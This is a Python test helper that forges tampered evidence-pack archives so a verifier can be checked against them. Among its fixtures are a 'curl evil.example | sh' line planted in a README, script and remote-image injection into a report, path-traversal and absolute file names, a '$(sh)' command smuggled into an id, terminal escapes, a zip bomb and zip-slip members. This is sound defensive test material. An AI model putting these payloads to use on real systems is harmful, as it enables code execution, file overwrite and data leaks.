"""Ways to forge an evidence pack, each under its name, made of a good one."""

import io
import json
import zipfile
from collections.abc import Callable
from typing import Any

from briefreader.model.evidence_pack import (
    MANIFEST,
    README,
    REPORT,
    SIGNATURE,
    SOURCES,
    digest,
    manifest_of,
    note_digest,
    text_name,
    zipped,
)
from briefreader.model.pack_report import render_report

Files = dict[str, bytes]
Notes = list[dict[str, Any]]


def notes_in(files: Files) -> Notes:
    notes: Notes = json.loads(files[MANIFEST])["notes"]
    return notes


def sealed(files: Files, notes: Notes | None = None, *, is_reported: bool = True) -> Files:
    """Return files with all digests made again; with the report made again too, where it can be."""
    notes = notes_in(files) if notes is None else notes
    notes = [note | {"sha256": note_digest(note)} for note in notes]
    files = {name: data for name, data in files.items() if name != MANIFEST}
    if is_reported:
        files[REPORT] = render_report(notes, {name: data.decode() for name, data in files.items()}).encode()
    return files | {MANIFEST: manifest_of({name: digest(data) for name, data in files.items()}, notes)}


def changed(change: dict[str, Any], *, is_reported: bool = True) -> Callable[[Files], Files]:
    """Return a forgery that changes the first note that quotes words, and seals it all again."""

    def forge(files: Files) -> Files:
        first, *others = sorted(notes_in(files), key=lambda note: note["exact"] is None)
        return sealed(files, [first | change, *others], is_reported=is_reported)

    return forge


def written(name: str, old: bytes, new: bytes) -> Callable[[Files], Files]:
    """Return a forgery that writes other words in a file, and seals it again."""

    def forge(files: Files) -> Files:
        assert old in files[name]
        return sealed(files | {name: files[name].replace(old, new, 1)}, is_reported=False)

    return forge


def unsealed(old: bytes, new: bytes) -> Callable[[Files], Files]:
    """Return a forgery that writes other words in the manifest itself."""

    def forge(files: Files) -> Files:
        assert old in files[MANIFEST]
        return files | {MANIFEST: files[MANIFEST].replace(old, new, 1)}

    return forge


def _first_text(files: Files) -> str:
    return min(name for name in files if name.startswith("texts/"))


def _retold(files: Files, tell: Callable[[str], str]) -> Files:
    """Return a pack whose first text says something else, with its note, name, digests and report to match."""
    notes = notes_in(files)
    quoted = next(note for note in notes if note["exact"] is not None)
    text, old = tell(files[quoted["text"]].decode()), quoted["text"]
    name = text_name(digest(text.encode()))
    files = {one: data for one, data in files.items() if one != old} | {name: text.encode()}
    for note in notes:
        if note["text"] == old:
            note["text"] = name
            note["exact"] = note["exact"] and text[note["start"] : note["end"]]
    return sealed(files, notes)


def _without_note(files: Files) -> Files:
    gone, *kept = notes_in(files)
    files = {name: data for name, data in files.items() if name != gone["text"]}
    return sealed(files, [note for note in kept if note["text"] != gone["text"]])


def _upper(files: Files) -> Files:
    name = _first_text(files)
    notes = [note | ({"text": name.upper()} if note["text"] == name else {}) for note in notes_in(files)]
    files = {(name.upper() if one == name else one): data for one, data in files.items()}
    return sealed(files, notes)


def _text_of(files: Files, data: bytes, *, is_reported: bool = True) -> Files:
    """Return a pack in which the note on the whole article is on other bytes, under their right name."""
    notes = notes_in(files)
    whole = next(note for note in notes if note["exact"] is None)
    files = {name: one for name, one in files.items() if name != whole["text"]} | {text_name(digest(data)): data}
    whole["text"] = text_name(digest(data))
    return sealed(files, notes, is_reported=is_reported)


CAUGHT: dict[str, Callable[[Files], Files]] = {
    "a text was changed": lambda files: files | {_first_text(files): b"Halden."},
    "a text was changed and sealed under its old name": lambda files: sealed(files | {_first_text(files): b"Halden."}),
    "a text is missing": lambda files: {name: files[name] for name in files if name != _first_text(files)},
    "a text is no UTF-8": lambda files: _text_of(files, b"caf\xe9", is_reported=False),
    "a text begins with a byte order mark": lambda files: _text_of(files, b"\xef\xbb\xbfWords."),
    "a text has bidirectional controls": lambda files: _text_of(files, "Never \u202ebuy\u202c.".encode()),
    "a text has an escape sequence": lambda files: _text_of(files, b"\x1b[2J"),
    "a text has surrogates": lambda files: _text_of(files, b"\xed\xa0\xbd", is_reported=False),
    "a text that no note is on": lambda files: sealed(files | {text_name(digest(b"More.")): b"More."}),
    "a text whose name is in capitals": _upper,
    "a text under another's number": lambda files: sealed(files | {f"texts/{'0' * 24}.txt": b"More."}),
    "a file besides": lambda files: files | {"more.txt": b"x"},
    "a file besides, listed": lambda files: sealed(files | {"more.txt": b"x"}),
    "a program besides, listed": lambda files: sealed(files | {"texts/verify.exe": b"MZ"}),
    "a page beside the report, listed": lambda files: sealed(files | {"index.html": b"<script>"}),
    "a name that differs in case alone": lambda files: files | {"Manifest.json": files[MANIFEST]},
    "a listed name that differs in case alone": lambda files: sealed(files | {"REPORT.html": files[REPORT]}),
    "a name that leads out": lambda files: sealed(files | {"../../evil.sh": b"x"}),
    "an absolute name": lambda files: sealed(files | {"/etc/cron.d/evil": b"x"}),
    "a name with a backslash": lambda files: sealed(files | {"texts\\..\\evil.txt": b"x"}),
    "a name with an escape sequence": lambda files: sealed(files | {"\x1b]52;c;x\x07": b"x"}),
    "a name listed but not there": lambda files: (
        files | {MANIFEST: manifest_of(json.loads(files[MANIFEST])["files"] | {"x": "0"}, notes_in(files))}
    ),
    "the report is missing": lambda files: {name: files[name] for name in files if name != REPORT},
    "the report shows another quotation": written(REPORT, b"<mark>", b"<mark>Never "),
    "the report runs a script": written(REPORT, b"<h1>", b"<script>alert(1)</script><h1>"),
    "the report hides a note": written(REPORT, b"<section ", b"<section hidden "),
    "the report loads an image": written(REPORT, b"</main>", b"<img src=http://evil.example/x></main>"),
    "the report has something behind it": written(REPORT, b"</html>\n", b"</html>\n<p>More"),
    "the readme says something else": written(README, b"briefreader verify", b"curl evil.example | sh; briefreader"),
    "the readme is missing": lambda files: {name: files[name] for name in files if name != README},
    "the sources are missing": lambda files: {name: files[name] for name in files if name != SOURCES},
    "the sources are no JSON": written(SOURCES, b"[", b"[["),
    "the sources have a name twice": written(SOURCES, b'"type"', b'"id": "x", "type"'),
    "the signature is something else": lambda files: files | {SIGNATURE: b"#!/bin/sh\n"},
    "a digest of a file is wrong": unsealed(b'"README.txt": "', b'"README.txt": "0'),
    "a digest of a note is wrong": unsealed(b'"sha256": "', b'"sha256": "0'),
    "a note was changed": unsealed(b'"note": "why"', b'"note": "because"'),
    "a name twice in the manifest": unsealed(b'"schema"', b'"count": 9,\n "schema"'),
    "a name twice in a note": unsealed(b'  "stance"', b'   "stance": "bear",\n   "stance"'),
    "a name twice, the same": unsealed(b'  "kind": "evidence"', b'   "kind": "evidence",\n   "kind": "evidence"'),
    "a part of the manifest more": unsealed(b'"schema"', b'"also": 1,\n "schema"'),
    "a part of a note more": unsealed(b'   "id"', b'   "also": "",\n   "id"'),
    "the manifest in another order": lambda files: (
        files | {MANIFEST: (json.dumps(json.loads(files[MANIFEST]), sort_keys=True, indent=1) + "\n").encode()}
    ),
    "the manifest on one line": lambda files: files | {MANIFEST: json.dumps(json.loads(files[MANIFEST])).encode()},
    "the manifest with escapes": unsealed("😀".encode(), b"\\ud83d\\ude00"),
    "the manifest with half a letter": changed({"note": "\ud83d"}, is_reported=False),
    "the manifest with a byte order mark": lambda files: files | {MANIFEST: b"\xef\xbb\xbf" + files[MANIFEST]},
    "the manifest is no UTF-8": unsealed(b'"why"', b'"wh\xff"'),
    "the manifest in UTF-16": lambda files: files | {MANIFEST: files[MANIFEST].decode().encode("utf-16")},
    "the manifest has something behind it": lambda files: files | {MANIFEST: files[MANIFEST] + b" "},
    "the manifest is missing": lambda files: {name: files[name] for name in files if name != MANIFEST},
    "the manifest is of another version": unsealed(b"briefreader.pack/2", b"briefreader.pack/1"),
    "the manifest is a list": lambda files: files | {MANIFEST: b"[]\n"},
    "the manifest is too deep": lambda files: files | {MANIFEST: b"[" * 100_000},
    "the manifest has too many values": lambda files: (
        files | {MANIFEST: b'{"schema":"briefreader.pack/2","notes":[' + b"[]," * 6_000_000 + b"0]}"}
    ),
    "a number of 5,000 digits": unsealed(b'"strength": 3', b'"strength": ' + b"3" * 5_000),
    "another number of notes": unsealed(b'"count": 3', b'"count": 4'),
    "no number of notes": unsealed(b'"count": 3', b'"count": null'),
    "no notes": lambda files: sealed({name: data for name, data in files.items() if "texts/" not in name}, []),
    "a note that is a number": lambda files: (
        files | {MANIFEST: files[MANIFEST].replace(b'"notes": [', b'"notes": [1,')}
    ),
    "a note twice": lambda files: sealed(files, [*notes_in(files), notes_in(files)[0]]),
    "two notes of one id": lambda files: sealed(files, [note | {"id": "n1"} for note in notes_in(files)]),
    "an id with a command": changed({"id": "n1\n$(sh)"}),
    "an empty quotation": changed({"exact": "", "start": 3, "end": 3}),
    "a quotation of white space": changed({"exact": " ", "start": 6, "end": 7}),
    "a quotation of other words": changed({"exact": "cut its bill by 90%"}),
    "a quotation of other letters that look alike": changed({"exact": "cut its bill by 6\u041e%"}),
    "a quotation at another position": changed({"start": 0, "end": 5}),
    "a quotation before the text": changed({"start": -4, "end": -1, "exact": "ll"}),
    "a quotation that ends behind the text": changed({"end": 10**9}),
    "a quotation from the end to the start": changed({"start": 9, "end": 2}),
    "a position in parts of a number": changed({"start": 7.0}, is_reported=False),
    "a position that is true": changed({"start": True, "end": 2, "exact": "a"}),
    "words without a position": changed({"start": None, "end": None}),
    "a position without words": changed({"exact": None}),
    "a start without an end": changed({"end": None}, is_reported=False),
    "a quotation of another article": lambda files: sealed(
        files, [note | {"text": max(one for one in files if "texts/" in one)} for note in notes_in(files)]
    ),
    "a quotation of the manifest": changed({"text": MANIFEST, "start": 0, "end": 1, "exact": "{"}, is_reported=False),
    "a quotation of a text that is not there": changed({"text": f"texts/{'0' * 24}.txt"}, is_reported=False),
    "evidence without a weight": changed({"strength": None}, is_reported=False),
    "a weight without evidence": changed({"kind": "highlight"}),
    "a strength of nine": changed({"strength": 9}),
    "a confidence of two": changed({"confidence": 2}),
    "a confidence that is no number": changed({"confidence": float("nan")}, is_reported=False),
    "a stance of its own": changed({"stance": "certain"}),
    "a kind of its own": changed({"kind": "proof"}),
    "a title with bidirectional controls": changed({"title": "Never \u202eyub\u202c"}),
    "a note with an escape sequence": changed({"note": "\x1b[2J"}),
    "a note with a zero-width space": changed({"note": "no\u200bthing"}),
    "a tag that is a number": changed({"tags": [1]}, is_reported=False),
    "a tag that is markup, unescaped in the report": written(REPORT, b"a</p>", b"<b>a</b></p>"),
}
"""What ``verify`` names without a digest."""

ONLY_BY_DIGEST: dict[str, Callable[[Files], Files]] = {
    "a stance was turned, all sealed again": changed({"stance": "bear"}),
    "a strength was raised, all sealed again": changed({"strength": 5}),
    "the words of a note were changed, all sealed again": changed({"note": "I never said this."}),
    "a publisher was changed, all sealed again": changed({"publisher": "Reuters"}),
    "a day was changed, all sealed again": changed({"published": "2020-01-01", "created": "2020-01-01T00:00:00+00:00"}),
    "a citation was invented, all sealed again": changed({"cited": "Bloomberg, 2026-04-13"}),
    "a quotation was shortened, all sealed again": lambda files: changed(
        {"exact": "cut", "end": next(note for note in notes_in(files) if note["note"] == "why")["start"] + 3}
    )(files),
    "a note was left out, all sealed again": _without_note,
    "the notes in another order, all sealed again": lambda files: sealed(files, notes_in(files)[::-1]),
    "an article and its quotation were changed, all sealed again": lambda files: _retold(
        files, lambda text: text.replace("60%", "90%").replace("halls", "malls")
    ),
    "other sources, sealed again": written(SOURCES, b'"title": "', b'"title": "Not '),
}
"""What agrees with itself, and only a digest or a signature tells: ``docs/formats.md`` names these."""


def _archive(*members: tuple[zipfile.ZipInfo | str, bytes], comment: bytes = b"") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.comment = comment
        for member, data in members:
            archive.writestr(member, data)
    return out.getvalue()


def _member(name: str, **different: Any) -> zipfile.ZipInfo:  # noqa: ANN401 - any attribute
    member = zipfile.ZipInfo(name, different.pop("date_time", (1980, 1, 1, 0, 0, 0)))
    member.create_system, member.external_attr = 3, 0o100600 << 16
    for attribute, value in different.items():
        setattr(member, attribute, value)
    return member


def _built(files: Files, name: str = "", **different: Any) -> bytes:  # noqa: ANN401 - any attribute
    """Return an archive of the files in which one member, or each, is written otherwise."""
    return _archive(*((_member(one, **(different if name in ("", one) else {})), files[one]) for one in sorted(files)))


def _and(files: Files, *members: tuple[zipfile.ZipInfo | str, bytes]) -> bytes:
    return _archive(*((_member(name), files[name]) for name in sorted(files)), *members)


def _encrypted(files: Files) -> bytes:
    data = zipped(files)
    at = data.index(b"PK\x01\x02")
    return data[:at] + data[at : at + 8] + b"\x01" + data[at + 9 :]


def _between(files: Files) -> bytes:
    data = zipped(files)
    at = data.index(b"PK\x01\x02")
    end = data.rindex(b"PK\x05\x06")
    start = int.from_bytes(data[end + 16 : end + 20], "little") + 4
    return data[:at] + b"EVIL" + data[at : end + 16] + start.to_bytes(4, "little") + data[end + 20 :]


ARCHIVES: dict[str, Callable[[Files], bytes]] = {
    "something before the archive": lambda files: b"<script>alert(1)</script>" + zipped(files),
    "something behind the archive": lambda files: zipped(files) + b"MZ",
    "something between the members and the index": _between,
    "a comment of the archive": lambda files: _archive(*files.items(), comment=b"verified by the editors"),
    "a comment of a member": lambda files: _built(files, README, comment=b"x"),
    "an extra field": lambda files: _built(files, README, extra=b"\xfe\xca\x02\x00xx"),
    "another day": lambda files: _built(files, README, date_time=(2026, 1, 1, 0, 0, 0)),
    "a link": lambda files: _built(files, README, external_attr=0o120777 << 16),
    "an executable file": lambda files: _built(files, README, external_attr=0o100777 << 16),
    "another system": lambda files: _built(files, create_system=0),
    "a folder": lambda files: _and(files, (_member("texts/"), b"")),
    "members in another order": lambda files: _archive(
        *((_member(name), files[name]) for name in sorted(files, reverse=True))
    ),
    "an encrypted member": _encrypted,
    "compressed members": lambda files: _built(files, compress_type=zipfile.ZIP_DEFLATED),
    "a bomb": lambda files: _and(files, (_member("bomb", compress_type=zipfile.ZIP_DEFLATED), bytes(50_000_000))),
    "the manifest twice": lambda files: _and(files, (_member(MANIFEST), b"{}")),
    "the manifest twice, the same": lambda files: _and(files, (_member(MANIFEST), files[MANIFEST])),
    "a text twice": lambda files: _and(files, (_member(_first_text(files)), b"Other words.")),
    "a member with a name of another in capitals": lambda files: _and(files, (_member("README.TXT"), b"x")),
    "a member that leads out": lambda files: _and(files, (_member("../../evil.sh"), b"x")),
    "30,000 members": lambda files: _and(files, *((_member(f"texts/{n}"), b"") for n in range(30_000))),
    "another name in front of a member than in the index": lambda files: zipped(files).replace(
        b"README.txt", b"README.exe", 1
    ),
    "an archive that is cut": lambda files: zipped(files)[:-30],
    "an archive of nothing but the manifest": lambda files: zipped({MANIFEST: files[MANIFEST]}),
}
"""Ways to write an archive otherwise, named without a digest."""
